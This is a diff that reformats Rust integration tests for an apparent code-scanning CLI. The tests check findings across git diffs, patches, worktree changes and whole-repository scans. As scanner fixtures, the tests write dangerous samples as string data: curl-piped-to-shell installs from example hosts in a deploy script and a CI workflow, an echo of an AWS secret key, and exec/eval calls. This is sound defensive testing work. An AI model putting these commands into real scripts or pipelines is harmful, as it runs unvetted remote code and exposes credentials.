@@ -27,7 +27,11 @@ fn repo_with_test_check() -> Repo {
 }
 
 fn only_test(run: &common::Run) -> Vec<(String, u64)> {
-    run.findings().into_iter().filter(|f| f.2 == "test.python.danger").map(|f| (f.0, f.1)).collect()
+    run.findings()
+        .into_iter()
+        .filter(|f| f.2 == "test.python.danger")
+        .map(|f| (f.0, f.1))
+        .collect()
 }
 
 #[test]
@@ -67,7 +71,12 @@ fn diff_base_reviews_from_the_merge_base() {
     repo.git(&["checkout", "-q", "feature"]);
     for spec in ["main", "main...HEAD", "main...feature"] {
         let run = repo.run(&["diff", spec, "--format", "json"]);
-        assert_eq!(only_test(&run), vec![("feature.py".to_string(), 1)], "spec {spec}: {}", run.stderr);
+        assert_eq!(
+            only_test(&run),
+            vec![("feature.py".to_string(), 1)],
+            "spec {spec}: {}",
+            run.stderr
+        );
         assert_eq!(run.code, 1);
     }
     // A..B compares the trees: main's new file is not in HEAD, so it is not "added".
@@ -85,9 +94,15 @@ fn diff_worktree_adds_staged_unstaged_and_untracked_changes() {
     repo.write("a.py", "x = 1\ndanger()\n");
     repo.write("new.py", "\n\ndanger()\n");
     let run = repo.run(&["diff", "HEAD", "--format", "json"]);
-    assert!(only_test(&run).is_empty(), "without --worktree only commits count");
+    assert!(
+        only_test(&run).is_empty(),
+        "without --worktree only commits count"
+    );
     let run = repo.run(&["diff", "HEAD", "--worktree", "--format", "json"]);
-    assert_eq!(only_test(&run), vec![("a.py".to_string(), 2), ("new.py".to_string(), 3)]);
+    assert_eq!(
+        only_test(&run),
+        vec![("a.py".to_string(), 2), ("new.py".to_string(), 3)]
+    );
 }
 
 #[test]
@@ -105,7 +120,10 @@ fn patch_from_git_diff_gives_the_same_findings_as_diff() {
         "web/server.js",
         "const x = 1;\nconst { exec } = require('child_process');\nexec(`ls ${dir}`);\nfetch(process.env.API_URL + '/x');\n/* eval(code) */\neval(code);\n",
     );
-    repo.write("deploy.sh", "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\necho $AWS_SECRET_ACCESS_KEY\n");
+    repo.write(
+        "deploy.sh",
+        "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\necho $AWS_SECRET_ACCESS_KEY\n",
+    );
     repo.commit("feature");
     let diff = repo.run(&["diff", "main", "--format", "json"]);
     assert_eq!(diff.code, 1, "{}", diff.stderr);
@@ -116,7 +134,10 @@ fn patch_from_git_diff_gives_the_same_findings_as_diff() {
     assert_eq!(diff.findings(), patch.findings());
     // The docstring and the block comment are not code.
     assert!(!diff.findings().iter().any(|f| f.0 == "app.py" && f.1 == 6));
-    assert!(!diff.findings().iter().any(|f| f.0 == "web/server.js" && f.1 == 5));
+    assert!(!diff
+        .findings()
+        .iter()
+        .any(|f| f.0 == "web/server.js" && f.1 == 5));
     // A patch file works as well as standard input.
     repo.write("../change.patch", &patch_text);
     let from_file = repo.run(&["patch", "../change.patch", "--format", "json"]);
@@ -132,11 +153,26 @@ fn scan_walks_everything_but_honors_gitignore() {
     repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: x\n    steps:\n      - run: curl -s https://x.example/i.sh | bash\n");
     let run = repo.run(&["scan", "--format", "json"]);
     let findings = run.findings();
-    assert!(findings.contains(&("src/a.py".to_string(), 1, "test.python.danger".to_string())), "{findings:?}");
-    assert!(!findings.iter().any(|f| f.0.starts_with("build/")), "{findings:?}");
-    assert!(findings.iter().any(|f| f.0 == ".github/workflows/ci.yml" && f.1 == 6), "{findings:?}");
+    assert!(
+        findings.contains(&("src/a.py".to_string(), 1, "test.python.danger".to_string())),
+        "{findings:?}"
+    );
+    assert!(
+        !findings.iter().any(|f| f.0.starts_with("build/")),
+        "{findings:?}"
+    );
+    assert!(
+        findings
+            .iter()
+            .any(|f| f.0 == ".github/workflows/ci.yml" && f.1 == 6),
+        "{findings:?}"
+    );
     // Paths given explicitly, relative to a subdirectory, are still reported from the root.
-    let run = run_in(&repo.path().join("src"), &["scan", ".", "--format", "json"], None);
+    let run = run_in(
+        &repo.path().join("src"),
+        &["scan", ".", "--format", "json"],
+        None,
+    );
     assert_eq!(only_test(&run), vec![("src/a.py".to_string(), 1)]);
 }
 
@@ -162,14 +198,28 @@ fn odd_files_are_handled_without_losing_anything() {
     found.sort();
     assert_eq!(
         found,
-        vec![("big.py".to_string(), 1), ("latin1.py".to_string(), 2), ("windows.py".to_string(), 2)]
+        vec![
+            ("big.py".to_string(), 1),
+            ("latin1.py".to_string(), 2),
+            ("windows.py".to_string(), 2)
+        ]
     );
     let json = run.json();
     assert_eq!(json["summary"]["skipped"]["binary"], 1);
-    let windows = json["findings"].as_array().unwrap().iter().find(|f| f["path"] == "windows.py").unwrap();
+    let windows = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "windows.py")
+        .unwrap();
     assert_eq!(windows["column"], 3);
     assert_eq!(windows["end_column"], 10);
-    let big = json["findings"].as_array().unwrap().iter().find(|f| f["path"] == "big.py").unwrap();
+    let big = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "big.py")
+        .unwrap();
     assert!(big["snippet"].as_str().unwrap().chars().count() < 300);
     assert!(big["snippet"].as_str().unwrap().contains("danger()"));
     // The text report says what was not reviewed.
@@ -203,16 +253,31 @@ fn unknown_revisions_and_shallow_clones_are_clear_errors() {
     repo.commit("three");
     let run = repo.run(&["diff", "no-such-branch"]);
     assert_eq!(run.code, 2);
-    assert!(run.stderr.contains("no-such-branch") && run.stderr.contains("fetch"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("no-such-branch") && run.stderr.contains("fetch"),
+        "{}",
+        run.stderr
+    );
 
     let clone_dir = tempfile::tempdir().unwrap();
     let url = format!("file://{}", repo.path().display());
-    let out = git_command(clone_dir.path()).args(["clone", "-q", "--depth", "1", &url, "shallow"]).output().unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = git_command(clone_dir.path())
+        .args(["clone", "-q", "--depth", "1", &url, "shallow"])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let shallow = clone_dir.path().join("shallow");
     let run = run_in(&shallow, &["diff", &first], None);
     assert_eq!(run.code, 2);
-    assert!(run.stderr.contains(&first) && run.stderr.contains("fetch-depth: 0"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains(&first) && run.stderr.contains("fetch-depth: 0"),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
@@ -231,5 +296,9 @@ fn outside_a_repository_git_commands_fail_clearly() {
     let dir = tempfile::tempdir().unwrap();
     let run = run_in(dir.path(), &["staged"], None);
     assert_eq!(run.code, 2);
-    assert!(run.stderr.contains("not a git repository"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("not a git repository"),
+        "{}",
+        run.stderr
+    );
 }
